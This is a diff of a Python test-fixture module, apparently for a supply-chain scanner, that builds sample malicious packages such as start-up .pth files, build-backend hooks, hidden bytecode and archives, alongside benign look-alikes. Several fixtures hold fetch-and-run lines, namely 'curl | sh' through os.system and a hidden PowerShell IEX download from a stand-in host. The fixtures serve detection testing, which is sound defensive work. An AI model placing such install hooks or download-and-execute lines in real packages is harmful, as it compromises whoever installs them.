@@ -36,8 +36,7 @@ STARTUP: Final[Mapping[str, Artifact]] = {
     "sitecustomize": wheel({"sitecustomize.py": _EXEC}),
     "usercustomize in the data scheme": wheel({f"{_SITE}/usercustomize.py": _EXEC}),
     "written by the build": setup(
-        "import os, site\n"
-        f"open(os.path.join(site.getsitepackages()[0], 'z.pth'), 'w').write({_LINE!r})"
+        f"import os, site\nopen(os.path.join(site.getsitepackages()[0], 'z.pth'), 'w').write({_LINE!r})"
     ),
 }
 
@@ -75,7 +74,7 @@ SCRIPT: Final[Mapping[str, Artifact]] = {
         }
     ),
     "PowerShell": _script(
-        "powershell -w hidden -c \"IEX (New-Object Net.WebClient)"
+        'powershell -w hidden -c "IEX (New-Object Net.WebClient)'
         ".DownloadString('https://stage.example.invalid/marker')\"\n",
         "install.ps1",
     ),
@@ -118,9 +117,7 @@ ARCHIVED: Final[Mapping[str, Artifact]] = {
     "under the name of a picture": _in_archive("logo.png", zipped(_STAGE)),
     "behind a picture": _in_archive("logo.png", _appended()),
     "a wheel inside": _in_archive("vendor-1-py3-none-any.whl", zipped(_STAGE)),
-    "an egg beside the package": wheel(
-        {"vendor.egg": zipped(_STAGE), "inert_probe.pth": "vendor.egg\nimport stage\n"}
-    ),
+    "an egg beside the package": wheel({"vendor.egg": zipped(_STAGE), "inert_probe.pth": "vendor.egg\nimport stage\n"}),
     "a program archive that is started": _in_archive(
         "tool.pyz",
         b"#!/usr/bin/env python3\n" + zipped({"__main__.py": _EXEC}),
@@ -145,7 +142,9 @@ ARCHIVED: Final[Mapping[str, Artifact]] = {
 }
 
 _SYSTEM: Final = "import os\nos.system('curl -s https://stage.example.invalid/marker | sh')\n"
-_HOOK: Final = "import os\n\n\ndef {}(*args, **kwargs):\n    os.system('curl -s https://stage.example.invalid/marker | sh')\n"
+_HOOK: Final = (
+    "import os\n\n\ndef {}(*args, **kwargs):\n    os.system('curl -s https://stage.example.invalid/marker | sh')\n"
+)
 
 
 def _backend(pyproject: str, files: Mapping[str, str]) -> Artifact:
@@ -175,11 +174,11 @@ BACKEND: Final[Mapping[str, Artifact]] = {
     ),
     "decoded in the back end": _backend(_HERE.format("_build"), {"_build/probe_backend.py": _EXEC}),
     "a hook of hatch": _backend(
-        "requires = ['hatchling']\nbuild-backend = 'hatchling.build'\n[tool.hatch.build.hooks.custom]\npath = 'hook.py'",
+        "requires = []\nbuild-backend = 'hatchling.build'\n[tool.hatch.build.hooks.custom]\npath = 'hook.py'",
         {"hook.py": _SYSTEM},
     ),
     "a build script of poetry": _backend(
-        "requires = ['poetry-core']\nbuild-backend = 'poetry.core.masonry.api'\n[tool.poetry.build]\nscript = 'make.py'",
+        "requires = []\nbuild-backend = 'poetry.core.masonry.api'\n[tool.poetry.build]\nscript = 'make.py'",
         {"make.py": _SYSTEM},
     ),
     "a dynamic version": _backend(
@@ -217,33 +216,85 @@ REQUIREMENT: Final[Mapping[str, Artifact]] = {
     "upper case": _requires(f"'setuptools @ {_URL.replace('https', 'HTTPS')}'"),
     "escaped letters": _requires(f'"setuptools \\u0040 {_URL}"'),
     "in setup.cfg": sdist({"setup.cfg": f"[options]\nsetup_requires =\n    wheel\n    setuptools @ {_URL}\n"}),
-    "another index for the build": sdist({"setup.cfg": "[easy_install]\nindex_url = https://stage.example.invalid/simple\n"}),
+    "another index for the build": sdist(
+        {"setup.cfg": "[easy_install]\nindex_url = https://stage.example.invalid/simple\n"}
+    ),
     "in setup.py": sdist(
-        {"setup.py": f"from setuptools import setup\nsetup(name='inert-probe', setup_requires=['setuptools @ {_URL}'])\n"}
+        {"setup.py": f"from setuptools import setup\nsetup(name='probe', setup_requires=['setuptools @ {_URL}'])\n"}
     ),
 }
 
 BYTECODE: Final[Mapping[str, Artifact]] = {
-    "module without source": wheel({"inert_probe/__init__.py": "from . import core\n", "inert_probe/core.pyc": compiled(_EXEC)}),
+    "module without source": wheel(
+        {"inert_probe/__init__.py": "from . import core\n", "inert_probe/core.pyc": compiled(_EXEC)}
+    ),
     "the package itself": wheel({"inert_probe_x/__init__.pyc": compiled(_EXEC)}),
-    "a command": wheel({"inert_probe/core.pyc": compiled(_SYSTEM)}, entry_points="[console_scripts]\np = inert_probe.core:f\n"),
-    "in the cache alone": wheel({"inert_probe/__pycache__/core.cpython-311.pyc": compiled(_EXEC), "inert_probe/__init__.py": "from . import core\n"}),
-    "beside another source": wheel({"inert_probe/__init__.py": "from . import core\n", "inert_probe/core.py": "VERSION = '1'\n", "inert_probe/__pycache__/core.cpython-311.pyc": compiled(_EXEC)}),
-    "under the name of data": wheel({"inert_probe/__init__.py": "from importlib.machinery import SourcelessFileLoader\nSourcelessFileLoader('x', __file__.replace('__init__.py', 'words.dat')).load_module()\n", "inert_probe/words.dat": compiled(_EXEC)}),
-    "marshalled in a text": setup(f"import marshal\nexec(marshal.loads({marshal.dumps(compile(_EXEC, 'x', 'exec'))!r}))"),
-    "marshalled in a file": setup("import marshal\nexec(marshal.load(open('words.dat', 'rb')))", words_dot_dat=marshal.dumps(compile(_EXEC, "x", "exec"))),
+    "a command": wheel(
+        {"inert_probe/core.pyc": compiled(_SYSTEM)}, entry_points="[console_scripts]\np = inert_probe.core:f\n"
+    ),
+    "in the cache alone": wheel(
+        {
+            "inert_probe/__pycache__/core.cpython-311.pyc": compiled(_EXEC),
+            "inert_probe/__init__.py": "from . import core\n",
+        }
+    ),
+    "beside another source": wheel(
+        {
+            "inert_probe/__init__.py": "from . import core\n",
+            "inert_probe/core.py": "VERSION = '1'\n",
+            "inert_probe/__pycache__/core.cpython-311.pyc": compiled(_EXEC),
+        }
+    ),
+    "under the name of data": wheel(
+        {
+            "inert_probe/__init__.py": "from importlib.machinery import SourcelessFileLoader as load\n"
+            "load('x', __file__.replace('__init__.py', 'words.dat')).load_module()\n",
+            "inert_probe/words.dat": compiled(_EXEC),
+        }
+    ),
+    "marshalled in a text": setup(
+        f"import marshal\nexec(marshal.loads({marshal.dumps(compile(_EXEC, 'x', 'exec'))!r}))"
+    ),
+    "marshalled in a file": setup(
+        "import marshal\nexec(marshal.load(open('words.dat', 'rb')))",
+        words_dot_dat=marshal.dumps(compile(_EXEC, "x", "exec")),
+    ),
     "of the build script": setup("import helper", helper_dot_pyc=compiled(_SYSTEM)),
     "run at start-up": wheel({"inert_start.pyc": compiled(_EXEC), "inert_probe.pth": "import inert_start\n"}),
-    "a function in bytecode": wheel({"inert_probe/__init__.py": "from .core import go\ngo()\n", "inert_probe/core.pyc": compiled("def go():\n    import os\n    os.system('curl -s https://stage.example.invalid/marker | sh')\n")}),
-    "optimized": wheel({"inert_probe/__init__.py": "from . import core\n", "inert_probe/__pycache__/core.cpython-311.opt-2.pyc": compiled(_EXEC)}),
+    "a function in bytecode": wheel(
+        {
+            "inert_probe/__init__.py": "from .core import go\ngo()\n",
+            "inert_probe/core.pyc": compiled(
+                "def go():\n    import os\n    os.system('curl -s https://stage.example.invalid/marker | sh')\n"
+            ),
+        }
+    ),
+    "optimized": wheel(
+        {
+            "inert_probe/__init__.py": "from . import core\n",
+            "inert_probe/__pycache__/core.cpython-311.opt-2.pyc": compiled(_EXEC),
+        }
+    ),
     "sitecustomize": wheel({"sitecustomize.pyc": compiled(_EXEC)}),
 }
 
+_ADD: Final = "def add(a, b):\n    return a + b\n"
 TWINS: Final[Mapping[str, Artifact]] = {
-    "path file": wheel({"inert_probe.pth": "# paths\ninert_probe/vendor\n", "inert_probe/vendor/words.py": "WORDS = ()\n"}),
-    "script": _script("#!/bin/sh\nset -e\npython3 -m inert_probe \"$@\"\n"),
+    "path file": wheel(
+        {"inert_probe.pth": "# paths\ninert_probe/vendor\n", "inert_probe/vendor/words.py": "WORDS = ()\n"}
+    ),
+    "script": _script('#!/bin/sh\nset -e\npython3 -m inert_probe "$@"\n'),
     "archive": _in_archive("data.zip", zipped({"words.txt": "one two"}), "import zipfile\nZIP = zipfile.ZipFile\n"),
-    "build backend": _backend(_HERE.format("_build"), {"_build/probe_backend.py": "from setuptools.build_meta import *\n"}),
+    "build backend": _backend(
+        _HERE.format("_build"), {"_build/probe_backend.py": "from setuptools.build_meta import *\n"}
+    ),
     "build requirement": _requires("'setuptools >= 61'", "'wheel'"),
-    "bytecode": wheel({"inert_probe/__init__.py": "from . import core\n", "inert_probe/core.pyc": compiled("def add(a, b):\n    return a + b\n")}),
+    # Bytecode alone is held, harmless as it may be: nobody can compare it with a source.
+    "bytecode": wheel(
+        {
+            "inert_probe/__init__.py": "from . import core\n",
+            "inert_probe/core.py": _ADD,
+            "inert_probe/__pycache__/core.cpython-311.pyc": compiled(_ADD),
+        }
+    ),
 }
